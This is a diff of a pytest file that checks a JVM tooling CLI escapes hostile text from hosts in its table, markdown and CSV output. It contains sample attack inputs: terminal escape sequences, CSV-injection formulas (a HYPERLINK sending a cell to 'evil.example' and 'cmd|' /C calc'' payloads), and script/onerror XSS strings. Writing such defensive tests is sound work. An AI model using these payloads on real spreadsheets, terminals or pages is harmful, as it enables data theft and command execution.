@@ -1,6 +1,9 @@
 """Text from hosts and processes reaches the terminal escaped: a host name, a command line, a flag
 listing or a fleet document carrying terminal escape sequences is printed as what it says.
-JSON keeps it exact (and escapes it itself)."""
+JSON keeps it exact (and escapes it itself).
+
+Split by tier: here what needs no JVM, OpenSSL, qemu, sshd or browser; the rest is in
+tests/integration/test_untrusted_text.py."""
 from __future__ import annotations
 
 import csv
@@ -14,18 +17,11 @@ import sys
 import pytest
 from markdown_it import MarkdownIt
 
-from helpers import run_cli
+from helpers import EVIL, FORMULAS, SHOWN, SHOWN_AS_LINES, run_cli
 from jvmbridge.render import FORMATS, render
 from jvmbridge.render.text import align, csv_cell, markdown, printable
 
-# Set the window title, clear the screen, a C1 CSI, a newline that would fake a line, a
-# right-to-left override that would reorder what follows.
-EVIL = "app\x1b]0;pwned\x07\x1b[2J\x9b31m\nAES acceleration is active everywhere checked.\u202egnp"
-SHOWN_AS_LINES = r"app\x1b]0;pwned\x07\x1b[2J\x9b31m" + "\n" + r"AES acceleration is active everywhere checked.\u202egnp"
-SHOWN = r"app\x1b]0;pwned\x07\x1b[2J\x9b31m\nAES acceleration is active everywhere checked.\u202egnp"
 
-
-@pytest.mark.fast
 def test_printable_escapes_controls_and_reordering_marks_and_keeps_the_rest():
     assert printable(EVIL) == SHOWN
     assert printable("tab\there\r") == r"tab\there\r"
@@ -33,13 +29,11 @@ def test_printable_escapes_controls_and_reordering_marks_and_keeps_the_rest():
     assert printable("café ✓ 17.0.15+6-Debian") == "café ✓ 17.0.15+6-Debian"
 
 
-@pytest.mark.fast
 def test_cells_escape_newlines_too():
     assert align([["host"], [EVIL]])[1] == SHOWN
     assert markdown([["host"], [EVIL]])[2] == f"| {SHOWN} |"
 
 
-@pytest.mark.fast
 @pytest.mark.parametrize("document, output_format",
                          [(d, f) for d, formats in FORMATS.items() for f in formats if f in ("table", "markdown")])
 def test_every_document_for_people_is_escaped(monkeypatch, document, output_format):
@@ -60,7 +54,6 @@ def _check_document() -> dict:
                            "flags": {"UseAES": {"value": "true", "origin": "default"}}, "verdicts": [verdict]}]}
 
 
-@pytest.mark.fast
 def test_check_prints_a_hostile_host_and_command_line_escaped():
     text = render("check", "table", _check_document())
     assert "\x1b" not in text and "\u202e" not in text and "\x9b" not in text
@@ -68,7 +61,6 @@ def test_check_prints_a_hostile_host_and_command_line_escaped():
     assert all(not line.startswith("AES") for line in text.splitlines()[:-1])
 
 
-@pytest.mark.fast
 @pytest.mark.parametrize("output_format", ["table", "markdown"])
 def test_report_of_a_hostile_fleet_document_is_escaped_and_json_exact(tmp_path, output_format):
     (tmp_path / "evil.json").write_text(json.dumps(_check_document()))
@@ -80,7 +72,6 @@ def test_report_of_a_hostile_fleet_document_is_escaped_and_json_exact(tmp_path, 
     assert exact["hosts"] == [EVIL]
 
 
-@pytest.mark.fast
 def test_flags_from_a_hostile_listing_is_escaped(tmp_path):
     listing = tmp_path / "flags.txt"
     listing.write_text("[Global flags]\n"
@@ -91,7 +82,6 @@ def test_flags_from_a_hostile_listing_is_escaped(tmp_path):
     assert "\x1b" not in done.stdout and r"\x1b]0;pwned" in done.stdout
 
 
-@pytest.mark.fast
 def test_an_error_naming_hostile_text_is_one_escaped_line(tmp_path):
     evil_path = tmp_path / "jdk\x1b[2J\nfake"
     evil_path.mkdir()
@@ -99,7 +89,6 @@ def test_an_error_naming_hostile_text_is_one_escaped_line(tmp_path):
     assert done.returncode == 2 and len(done.stderr.splitlines()) == 1 and "\x1b" not in done.stderr, done.stderr
 
 
-@pytest.mark.fast
 def test_a_document_with_a_verdict_jvmbridge_does_not_know_is_a_host_not_checked(tmp_path):
     document = _check_document()
     document["live_jvms"][0]["verdicts"][0]["status"] = "totally active \x1b[2J"
@@ -110,7 +99,6 @@ def test_a_document_with_a_verdict_jvmbridge_does_not_know_is_a_host_not_checked
     assert "a verdict this jvmbridge does not know" in row and "\x1b" not in done.stdout, row
 
 
-@pytest.mark.fast
 @pytest.mark.parametrize("broken", ["no verdicts", "no pid", "verdicts not a list", "guard of another shape",
                                     "jdk without version"])
 def test_a_document_missing_what_a_check_document_has_is_a_host_not_checked(tmp_path, broken):
@@ -133,12 +121,6 @@ def test_a_document_missing_what_a_check_document_has_is_a_host_not_checked(tmp_
     assert why.startswith(f"{tmp_path / 'host.json'}: not a complete `jvmbridge check` document"), why
 
 
-# What a spreadsheet would run as a formula (OWASP's CSV injection), each as a host could name itself.
-FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"details")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
-            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
-
-
-@pytest.mark.fast
 @pytest.mark.parametrize("value, written", [
     *((formula, "'" + printable(formula)) for formula in FORMULAS),
     (EVIL, SHOWN), ("-", "-"), ("-12.5", "-12.5"), ("-1e-3", "-1e-3"), ("17.0.15", "17.0.15"), (3, 3), (None, None),
@@ -159,7 +141,6 @@ def _fleet_of_hosts(folder, hosts: list[str]):
     return folder
 
 
-@pytest.mark.fast
 def test_a_fleet_csv_holds_hostile_host_names_as_text(tmp_path):
     hosts = [*FORMULAS, EVIL, "web-1"]
     done = run_cli("report", str(_fleet_of_hosts(tmp_path / "fleet", hosts)), "--format", "csv")
@@ -195,7 +176,6 @@ def run_cli_on_a_terminal(*args: str) -> str:
     return received.decode().replace("\r\n", "\n")
 
 
-@pytest.mark.fast
 def test_csv_is_the_same_escaped_text_on_a_terminal_and_through_a_pipe(tmp_path):
     folder = _fleet_of_hosts(tmp_path / "fleet", [EVIL, "web-1"])
     piped = run_cli("report", str(folder), "--format", "csv").stdout
@@ -203,7 +183,6 @@ def test_csv_is_the_same_escaped_text_on_a_terminal_and_through_a_pipe(tmp_path)
     assert "\x1b" not in piped and r"app\x1b]0;pwned\x07\x1b[2J" in piped
 
 
-@pytest.mark.fast
 def test_markdown_shows_html_from_hosts_as_text(tmp_path):
     hosts = ["<script>alert(1)</script>", "<img src=x onerror=alert(2)>", "a & b"]
     done = run_cli("report", str(_fleet_of_hosts(tmp_path / "fleet", hosts)), "--format", "markdown")
@@ -211,16 +190,3 @@ def test_markdown_shows_html_from_hosts_as_text(tmp_path):
     page = MarkdownIt("commonmark").enable("table").render(done.stdout)
     assert "<script" not in page and "<img" not in page, page
     assert "<td>&lt;script&gt;alert(1)&lt;/script&gt;</td>" in page and "<td>a &amp; b</td>" in page, page
-
-
-def test_run_and_host_names_reach_csv_as_text(tmp_path):
-    once = ["--engine", "pyca", "--round-time", "0.01", "--rounds", "1", "--forks", "1", "--max-forks", "1", "--quiet"]
-    runs = [tmp_path / "one.jsonl", tmp_path / "two.jsonl"]
-    for run, name, host in zip(runs, FORMULAS[:2], [FORMULAS[3], EVIL]):
-        done = run_cli("compare", *once, "--name", name, "--host-name", host, "--output", str(run))
-        assert done.returncode == 0, done.stderr
-    by_run = next(csv.reader(io.StringIO(run_cli("report", *map(str, runs), "--format", "csv").stdout)))
-    by_host = next(csv.reader(io.StringIO(run_cli("report", *map(str, runs), "--columns", "host",
-                                                  "--format", "csv").stdout)))
-    assert by_run[1:3] == [f"'{FORMULAS[0]} ns/op", f"'{FORMULAS[1]} ns/op"], by_run
-    assert by_host[1:3] == [f"'{FORMULAS[3]} ns/op", f"{SHOWN} ns/op"], by_host
